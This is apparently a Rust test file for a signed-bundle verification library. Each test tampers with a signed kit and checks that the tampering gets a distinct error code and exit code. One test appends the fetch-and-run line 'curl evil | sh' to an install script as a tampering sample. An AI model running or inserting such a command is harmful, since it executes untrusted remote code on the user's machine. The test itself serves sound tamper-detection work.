//! Every way a kit can be changed after signing gives its own stable code and exit code.
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use stella_evidence::{
    BundleError, ErrorClass, KeyKind, KitTrust, Limits, SigningKey, TrustStore, verify_bundle, verify_kit,
};

use crate::fixtures::*;

#[test]
fn a_changed_file_is_a_digest_mismatch_naming_it() {
    let kit = rebuilt(|entries| {
        let stella = position(entries, "bin/stella");
        entries[stella].data[1000] ^= 1;
    });
    let error = verify(&kit).unwrap_err();
    assert!(matches!(&error, BundleError::DigestMismatch { file, .. } if file == "bin/stella"), "{error}");
    assert_eq!((error.code(), error.exit_code()), ("bundle.digest_mismatch", 10));
    assert!(error.to_string().contains("bin/stella"), "{error}");
}

#[test]
fn a_file_of_another_size_is_refused_before_it_is_read() {
    let kit = rebuilt(|entries| {
        let script = position(entries, "bootstrap/install.sh");
        entries[script].data.extend_from_slice(b"curl evil | sh\n");
        entries[script].declared_size = entries[script].data.len() as u64;
    });
    let error = verify(&kit).unwrap_err();
    assert!(
        matches!(&error, BundleError::SizeMismatch { file, expected: 18, actual: 33 } if file.ends_with("install.sh")),
        "{error}"
    );
    assert_eq!(error.code(), "bundle.digest_mismatch");
}

#[test]
fn a_manifest_copy_that_differs_from_the_signed_payload_is_a_digest_mismatch() {
    let kit = rebuilt(|entries| {
        let text = String::from_utf8(entries[1].data.clone()).unwrap().replace("empty.txt", "empty.txx");
        entries[1] = RawEntry::file("manifest.json", text.as_bytes());
    });
    let error = verify(&kit).unwrap_err();
    assert!(matches!(&error, BundleError::DigestMismatch { file, .. } if file == "manifest.json"), "{error}");
}

#[test]
fn a_changed_signed_manifest_is_an_invalid_signature() {
    let kit = rebuilt(|entries| {
        let mut envelope: serde_json::Value = serde_json::from_slice(&entries[0].data).unwrap();
        let text = String::from_utf8(entries[1].data.clone()).unwrap().replace("empty.txt", "empty.txx");
        envelope["payload"] = STANDARD.encode(&text).into();
        entries[0] = RawEntry::file("manifest.dsse.json", &serde_json::to_vec(&envelope).unwrap());
        entries[1] = RawEntry::file("manifest.json", text.as_bytes());
    });
    let error = verify(&kit).unwrap_err();
    assert_eq!((error.code(), error.exit_code()), ("bundle.signature_invalid", 11), "{error}");
}

#[test]
fn a_key_outside_the_trust_store_is_untrusted() {
    let other = TrustStore::from_iter([SigningKey::generate(KeyKind::Ed25519).unwrap().trusted_key()]);
    let error = verify_kit(kit().as_slice(), &KitTrust::kit_only(&other), &Limits::default()).unwrap_err();
    assert_eq!((error.code(), error.exit_code()), ("bundle.untrusted_key", 12), "{error}");
    let error =
        verify_kit(kit().as_slice(), &KitTrust::kit_only(&TrustStore::default()), &Limits::default()).unwrap_err();
    assert_eq!(error.class(), ErrorClass::UntrustedKey);
}

/// A forensic bundle signed by the same trusted key.
fn bundle() -> Vec<u8> {
    let header = stella_evidence::BundleHeader {
        tenant: "acme".into(),
        window: stella_evidence::Window {
            start: "2026-01-01T00:00:00Z".parse().unwrap(),
            end: "2026-01-02T00:00:00Z".parse().unwrap(),
        },
        profile: "forensic".into(),
        redaction_profiles: Vec::new(),
        generator: "test".into(),
    };
    let spool = tempfile::tempdir().unwrap();
    let mut writer = stella_evidence::BundleWriter::new(header, spool.path()).unwrap();
    let facts = stella_evidence::RecordFacts::default();
    writer.add_record(stella_evidence::Signal::Logs, b"a record", facts).unwrap();
    let mut bundle = Vec::new();
    writer.finish(&key(), stella_evidence::Compression::Gzip, &mut bundle).unwrap();
    bundle
}

#[test]
fn a_bundle_is_not_a_kit_and_a_kit_is_not_a_bundle() {
    let error = verify(&bundle()).unwrap_err();
    assert_eq!((error.code(), error.exit_code()), ("bundle.payload_type", 13), "{error}");
    let error = verify_bundle(kit().as_slice(), &trust(), &Limits::default()).unwrap_err();
    assert_eq!(error.code(), "bundle.payload_type", "{error}");
}
